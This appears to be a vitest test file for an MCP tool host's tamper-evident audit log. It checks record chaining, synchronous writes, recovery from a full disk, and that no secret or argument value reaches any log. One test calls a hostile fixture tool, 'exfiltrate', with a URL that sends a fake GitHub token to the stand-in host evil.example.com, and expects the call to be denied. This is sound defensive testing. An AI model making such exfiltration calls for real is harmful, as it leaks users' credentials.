import { readFileSync, readdirSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { canonicalJson } from '../../../host/canonical-json.ts';
import { openAudit } from '../../../host/serve/audit.ts';
import { EXAMPLES, FIXTURES, startHost, tempDir } from '../../helpers/host.ts';

describe('canonicalJson', () => {
  it('gives the same text for the same value whatever the key order', () => {
    expect(canonicalJson({ b: 1, a: { d: [1, { z: 1, y: 2 }], c: null } })).toBe(canonicalJson({ a: { c: null, d: [1, { y: 2, z: 1 }] }, b: 1 }));
  });
});

describe('canonicalJson and an own "__proto__" key', () => {
  it('keeps the key (a plain copy would set its prototype and drop it from the digest)', () => {
    const args = JSON.parse('{"__proto__":{"polluted":true},"a":1}') as unknown;
    expect(canonicalJson(args)).toBe('{"__proto__":{"polluted":true},"a":1}');
  });
});

describe('openAudit', () => {
  it('writes one JSON line per call and per capability use, with a private key file', async () => {
    const dir = tempDir('audit');
    const audit = await openAudit(join(dir, 'audit.log'), join(dir, 'audit.key'), { now: () => new Date('2030-01-01T00:00:00Z') });
    audit.call({ package: 'p', version: '1.0.0', tool: 't', argsDigest: audit.digest({ x: 1 }), durationMs: 1.5, outcome: 'ok' });
    audit.capability('p', 't', { kind: 'net', op: 'GET', target: 'https://api.example.com:443', allowed: false, code: 'NET_NOT_GRANTED' });
    await audit.close();
    const lines = readFileSync(join(dir, 'audit.log'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    // Each record also carries its chain (w, prev, mac: audit-chain.test.ts), between an "opened" and a "closed" record.
    const chain = { w: expect.stringMatching(/^[0-9a-f]{12}$/), prev: expect.stringMatching(/^[0-9a-f]{64}$/), mac: expect.stringMatching(/^[0-9a-f]{64}$/) };
    expect(lines).toEqual([
      { time: '2030-01-01T00:00:00.000Z', type: 'audit', event: 'opened', pid: process.pid, ...chain },
      { time: '2030-01-01T00:00:00.000Z', type: 'call', package: 'p', version: '1.0.0', tool: 't', argsDigest: expect.stringMatching(/^hmac-sha256:/), durationMs: 1.5, outcome: 'ok', ...chain },
      { time: '2030-01-01T00:00:00.000Z', type: 'capability', package: 'p', tool: 't', kind: 'net', op: 'GET', target: 'https://api.example.com:443', allowed: false, code: 'NET_NOT_GRANTED', ...chain },
      { time: '2030-01-01T00:00:00.000Z', type: 'audit', event: 'closed', ...chain },
    ]);
    expect(statSync(join(dir, 'audit.key')).mode & 0o077).toBe(0);
    expect(statSync(join(dir, 'audit.log')).mode & 0o077).toBe(0);
  });
});

describe('when a record is written (issue 14)', () => {
  it('is in the file when call(), capability() or pkg() returns: written before the response leaves, not batched', async () => {
    const dir = tempDir('audit-sync');
    const logPath = join(dir, 'audit.log');
    const audit = await openAudit(logPath, join(dir, 'audit.key'));
    const lines = () => readFileSync(logPath, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>).filter((r) => r.type !== 'audit');
    audit.call({ package: 'p', version: '1.0.0', tool: 't', argsDigest: 'd', durationMs: 1, outcome: 'ok' });
    expect(lines()).toEqual([expect.objectContaining({ type: 'call', outcome: 'ok' })]);
    audit.capability('p', 't', { kind: 'fs', op: 'read', target: '/x', allowed: true });
    audit.pkg({ package: 'p', event: 'loaded', origin: 'dev' });
    expect(lines().map((l) => l.type)).toEqual(['call', 'capability', 'package']);
    await audit.close();
  });
});

describe('audit log writes (issue 8, items 25 and 30)', () => {
  it('keeps auditing after a write error: reports it, counts the lost lines, and records the recovery', async () => {
    const dir = tempDir('audit-full');
    const logPath = join(dir, 'audit.log');
    // /dev/full fails every write with ENOSPC, like a full disk.
    symlinkSync('/dev/full', logPath);
    const warnings: string[] = [];
    // Writes are synchronous: the warning is given by the time a record call returns.
    const audit = await openAudit(logPath, join(dir, 'audit.key'), { warn: (m) => warnings.push(m), now: () => new Date('2030-01-01T00:00:00Z') });
    const record = (outcome: string) => audit.call({ package: 'p', version: '1.0.0', tool: 't', argsDigest: 'd', durationMs: 1, outcome });
    // The serve's "opened" record is the first line lost.
    record('lost-1');
    record('lost-2');
    expect(warnings).toEqual([expect.stringMatching(/cannot write the audit log \(ENOSPC\)/)]);

    // The disk has room again: the next write succeeds and says what was lost.
    rmSync(logPath);
    record('kept');
    await audit.close();
    const lines = readFileSync(logPath, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toEqual([
      expect.objectContaining({ time: '2030-01-01T00:00:00.000Z', type: 'audit', event: 'recovered', lost: 3 }),
      expect.objectContaining({ type: 'call', outcome: 'kept' }),
      expect.objectContaining({ type: 'audit', event: 'closed' }),
    ]);
    expect(warnings[1]).toMatch(/written again; 3 line\(s\) were lost/);
    expect(statSync(logPath).mode & 0o777).toBe(0o600);
  });
});

function allFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? allFiles(p) : [p];
  });
}

describe('the audit trail of a running host', () => {
  it('has a call\'s record in the audit log by the time its response is received', async () => {
    const home = tempDir('audit-home');
    const h = await startHost({ home, args: ['--dev', join(EXAMPLES, 'text-tools')] });
    try {
      for (const to of ['upper', 'lower', 'upper']) {
        const r = (await h.client.callTool({ name: 'text-tools__convert_case', arguments: { text: 'x', to } })) as CallToolResult;
        expect(r.isError).toBeFalsy();
      }
      const calls = readFileSync(join(home, 'audit.log'), 'utf8').split('\n').filter((l) => l.includes('"type":"call"'));
      expect(calls).toHaveLength(3);
    } finally {
      await h.close();
    }
  });

  it('records calls and capability decisions but no argument value and no secret, in any log', async () => {
    const SECRET = 'ghp_SeCrEtVaLuE_do_not_log_7f3a9c';
    const MARKER = 'argument-value-Q7xZ19';
    const home = tempDir('audit-home');
    const logFile = join(home, 'host.log');
    const h = await startHost({
      home,
      env: { GITHUB_TOKEN: SECRET },
      args: ['--dev', join(EXAMPLES, 'text-tools'), '--dev', join(FIXTURES, 'hostile'), '--log-level', 'trace', '--log-file', logFile],
    });
    try {
      const call = async (name: string, args: Record<string, unknown>) => (await h.client.callTool({ name, arguments: args })) as CallToolResult;
      expect((await call('text-tools__convert_case', { text: MARKER, to: 'upper' })).isError).toBeFalsy();
      expect((await call('text-tools__sha256', { text: `${MARKER} ${SECRET}` })).isError).toBeFalsy();
      // Invalid arguments and a denied fetch whose URL carries the marker in its path and query.
      expect((await call('text-tools__convert_case', { text: MARKER, to: MARKER })).isError).toBe(true);
      const denied = await call('hostile__exfiltrate', { url: `https://evil.example.com/${MARKER}?token=${SECRET}` });
      expect(denied.isError).toBe(true);
      expect((await call('hostile__read_outside', { path: `/nonexistent/${MARKER}` })).isError).toBe(true);
      await call('hostile__crash', {});
    } finally {
      await h.close();
    }
    const audit = readFileSync(join(home, 'audit.log'), 'utf8');
    const records = audit.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(records.filter((r) => r.type === 'call').map((r) => [r.tool, r.outcome])).toEqual([
      ['convert_case', 'ok'],
      ['sha256', 'ok'],
      ['convert_case', 'INVALID_ARGUMENTS'],
      ['exfiltrate', 'CAPABILITY_DENIED'],
      ['read_outside', 'CAPABILITY_DENIED'],
      ['crash', 'TOOL_THREW'],
    ]);
    expect(records).toContainEqual(expect.objectContaining({ type: 'capability', kind: 'net', target: 'https://evil.example.com:443', allowed: false }));
    expect(records).toContainEqual(expect.objectContaining({ type: 'capability', kind: 'fs', allowed: false }));
    // The file path a tool asks for is "the path touched" (audited on purpose); argument values elsewhere are not.
    const withoutFsTargets = records.filter((r) => !(r.type === 'capability' && r.kind === 'fs'));

    const logs = allFiles(home).filter((f) => !f.endsWith('audit.key'));
    expect(logs).toEqual(expect.arrayContaining([join(home, 'audit.log'), logFile]));
    for (const f of logs) {
      const content = readFileSync(f, 'utf8');
      expect([f, content.includes(SECRET)]).toEqual([f, false]);
      if (f !== join(home, 'audit.log')) expect([f, content.includes(MARKER)]).toEqual([f, false]);
    }
    expect(JSON.stringify(withoutFsTargets)).not.toContain(MARKER);
    expect(h.stderr()).not.toContain(SECRET);
    expect(h.stderr()).not.toContain(MARKER);
  });
});
